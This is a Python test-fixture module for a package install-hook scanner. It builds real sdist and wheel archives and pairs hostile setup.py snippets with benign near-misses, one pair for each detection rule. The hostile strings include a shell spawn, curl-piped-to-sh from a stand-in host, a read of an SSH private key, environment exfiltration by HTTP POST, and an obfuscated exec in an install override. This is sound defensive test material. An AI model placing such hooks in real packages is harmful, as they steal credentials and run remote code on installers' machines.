"""Hostile and near-miss artifacts for the install-hook scanner, built as real archives.

Every hostile setup.py starts by writing a canary file: if any scanner ever ran it, the canary
would appear (tests/checks/test_no_execution.py proves it never does).
"""

from __future__ import annotations

import io
import tarfile
import zipfile
from dataclasses import dataclass
from pathlib import Path

from safepip.findings import Finding

CANARY_NAME = "safepip-canary-fired"


def canary_line(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').write('ran')\n"


def beyond_canary(findings: list[Finding], canary: Path) -> list[Finding]:
    """The findings of a sample other than its canary line's own: writing the canary to an
    absolute path is an install-time write outside the tree, which `hook/outside-write`
    reports by design; a benign sample's verdict is about the rest of its code."""
    line = canary_line(canary).strip()
    return [f for f in findings if not (f.rule == "hook/outside-write" and f.evidence == line)]


def make_sdist(directory: Path, name: str, version: str, files: dict[str, str | bytes]) -> Path:
    """A real .tar.gz sdist `name-version/...` holding `files` (plus PKG-INFO)."""
    path = directory / f"{name}-{version}.tar.gz"
    entries = {"PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n", **files}
    with tarfile.open(path, "w:gz") as bundle:
        for member, content in entries.items():
            data = content.encode() if isinstance(content, str) else content
            info = tarfile.TarInfo(f"{name}-{version}/{member}")
            info.size = len(data)
            bundle.addfile(info, io.BytesIO(data))
    return path


def make_wheel(directory: Path, name: str, version: str, files: dict[str, str | bytes]) -> Path:
    """A real wheel with a dist-info (WHEEL, METADATA) and `files` at its root."""
    path = directory / f"{name}-{version}-py3-none-any.whl"
    info = f"{name}-{version}.dist-info"
    entries = {
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\n"
        "Tag: py3-none-any\n",
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        **{k.replace("{info}", info): v for k, v in files.items()},
    }
    with zipfile.ZipFile(path, "w") as bundle:
        for member, content in entries.items():
            bundle.writestr(member, content)
    return path


@dataclass(frozen=True)
class Case:
    """One rule, shown by a hostile setup.py and a benign near-miss that must not fire."""

    rule: str
    minimum: str
    """Lowest severity the hostile sample must reach."""
    hostile: str
    """setup.py body (after the canary line) that must fire `rule` at >= `minimum`."""
    near_miss: str
    """setup.py body that looks alike but is ordinary: `rule` stays below low."""


_SETUP = "from setuptools import setup\nsetup(name='demo', version='1.0')\n"
CASES: tuple[Case, ...] = (
    Case(
        "hook/process-exec",
        "high",
        "import pty, socket, os\ns = socket.socket()\npty.spawn('/bin/sh')\n",
        "import subprocess\nv = subprocess.check_output(['git', 'describe', '--tags'])\n"
        "f = subprocess.check_output(['pkg-config', '--cflags', 'libxml-2.0'])\n",
    ),
    Case(
        "hook/exec-obfuscated",
        "critical",
        "import base64, zlib\n"
        "payload = zlib.decompress(base64.b64decode('eJwrKMrMK1Eoyc9LLVIoLs'))\n"
        "exec(payload)\n",
        "import base64\nlogo = base64.b64decode('iVBORw0KGgo=')\n"
        "open('logo.png', 'wb').write(logo)\n",
    ),
    Case(
        "hook/dynamic-exec",
        "medium",
        "import sys\ncode = sys.argv[-1] + ''.join(sys.argv)\nexec(code)\n",
        "import os\nhere = os.path.dirname(__file__)\n"
        "exec(open(os.path.join(here, 'demo', 'version.py')).read())\n",
    ),
    Case(
        "hook/network-fetch",
        "medium",
        "import urllib.request\nurllib.request.urlopen('https://example.invalid/ping')\n",
        "import urllib.parse\nhome = urllib.parse.urljoin('https://example.invalid/', 'docs')\n",
    ),
    Case(
        "hook/download-exec",
        "high",
        "import os\nos.system('curl -s https://example.invalid/x.sh | sh')\n",
        "import subprocess\nsubprocess.check_call(['make', '-C', 'vendor', 'download-docs'])\n",
    ),
    Case(
        "hook/sensitive-read",
        "high",
        "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
        "readme = open('README.md').read()\nconfig = open('setup.cfg').read()\n",
    ),
    Case(
        "hook/env-exfiltration",
        "high",
        "import os, json, urllib.request\n"
        "urllib.request.urlopen('https://example.invalid/c',\n"
        "                       data=json.dumps(dict(os.environ)).encode())\n",
        "import os, subprocess\nenv = os.environ.copy()\nenv['CFLAGS'] = '-O2'\n"
        "subprocess.check_call(['make'], env=env)\n",
    ),
    Case(
        "hook/webhook",
        "high",
        "HOOK = 'https://discord.com/api/webhooks/123/abc'\n",
        "URL = 'https://github.com/example/demo'\nDOCS = 'https://demo.readthedocs.io'\n",
    ),
    Case(
        "hook/cmdclass-override",
        "critical",
        "from setuptools.command.install import install\nimport base64\n"
        "class PostInstall(install):\n    def run(self):\n"
        "        exec(base64.b64decode('cHJpbnQoMSk='))\n        install.run(self)\n"
        "setup_kwargs = {'cmdclass': {'install': PostInstall}}\n",
        "from setuptools.command.build_ext import build_ext\n"
        "class BuildExt(build_ext):\n    def build_extensions(self):\n"
        "        self.compiler.compiler_so.append('-O2')\n"
        "        build_ext.build_extensions(self)\n",
    ),
    Case(
        "hook/obfuscation",
        "high",
        "import builtins\nname = ''.join(['ex', 'ec'])\nrun = getattr(builtins, name)\n",
        "import sys\nstream = getattr(sys, 'stdout')\nversion = getattr(sys, 'version_info')\n",
    ),
)
"""One positive and one near-miss per rule whose evidence lives in setup.py."""


def setup_py(body: str, canary: Path) -> str:
    return canary_line(canary) + body + _SETUP
